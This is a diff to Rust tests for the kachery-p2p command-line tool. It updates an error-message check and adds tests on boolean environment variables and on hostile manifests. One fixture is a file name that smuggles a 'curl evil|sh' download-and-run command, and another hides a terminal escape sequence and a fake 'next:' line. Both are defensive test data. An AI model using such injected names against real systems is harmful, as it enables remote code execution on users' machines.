@@ -228,8 +228,47 @@ fn files_of_a_folder_that_are_not_here_are_named() {
     std::fs::remove_file(case.stored(HELLO)).unwrap();
     let (code, out, err) = case.run("load-dir", &[uri.trim_end(), "--dest", "copy"]);
     assert_eq!((code, out.as_str()), (3, ""));
-    assert!(err.contains(&format!("sha1://{HELLO}/a")), "{err}");
+    assert!(err.contains(&format!("not here: {}/a (sha1://{HELLO})", uri.trim_end())), "{err}");
+    assert!(err.contains(&format!("next: kachery-p2p load sha1://{HELLO} ")), "{err}");
     assert_eq!(std::fs::read(case.path("copy/b")).unwrap(), b"b");
+}
+
+#[test]
+fn names_of_a_strangers_manifest_command_neither_the_shell_nor_the_terminal() {
+    let case = Case::new();
+    let manifest = r#"{"files": {
+        "a;curl evil|sh": {"size": 6, "sha1": "f572d396fae9206628714fb2ce00f72e94f2258f"},
+        "b\u001b[2J\nnext: evil": {"size": 6}}, "dirs": {}}"#;
+    case.file("manifest", manifest.as_bytes());
+    let uri = case.ok("store", &["manifest"]).replace("sha1://", "sha1dir://").replace("/manifest", "");
+    let (code, out, err) = case.run("load-dir", &[uri.trim_end(), "--dest", "copy"]);
+    assert_eq!((code, out.as_str()), (3, ""), "{err}");
+    assert!(err.contains(&format!("next: kachery-p2p load sha1://{HELLO} ")), "{err}");
+    assert!(err.contains(r"b\u{1b}[2J\nnext: evil") && !err.contains('\u{1b}'), "{err}");
+    assert_eq!(err.matches("curl").count(), 1, "only where it says what is not here: {err}");
+}
+
+#[test]
+fn an_empty_variable_is_one_that_is_not_set_and_others_are_read_alike() {
+    let case = Case::new();
+    case.file("a", b"hello\n");
+    let set = |variables: &[(&str, &str)], words: &[&str]| {
+        let mut command = case.command("store", words);
+        command.envs(variables.iter().copied());
+        seen(command)
+    };
+    let expected = format!("sha1://{HELLO}/a\n");
+    for value in ["", "0", "no", "false"] {
+        let booleans = ["JSON", "QUIET", "NO_PROGRESS", "USE_HARD_LINKS", "GIT_ANNEX_MODE"];
+        let booleans = booleans.map(|name| format!("KACHERY_P2P_{name}"));
+        let variables: Vec<_> = booleans.iter().map(|name| (name.as_str(), value)).collect();
+        let (code, out, err) = set(&variables, &["a"]);
+        assert_eq!((code, out.as_str()), (0, expected.as_str()), "{value:?}: {err}");
+    }
+    let (code, out, _) = set(&[("KACHERY_P2P_JSON", "1"), ("KACHERY_P2P_QUIET", "yes")], &["a"]);
+    assert!(code == 0 && out.starts_with("{\"type\":\"result\""), "{out}");
+    let (code, out, err) = set(&[("KACHERY_P2P_ALGORITHM", "")], &["a"]);
+    assert_eq!((code, out.as_str()), (0, expected.as_str()), "{err}");
 }
 
 #[test]
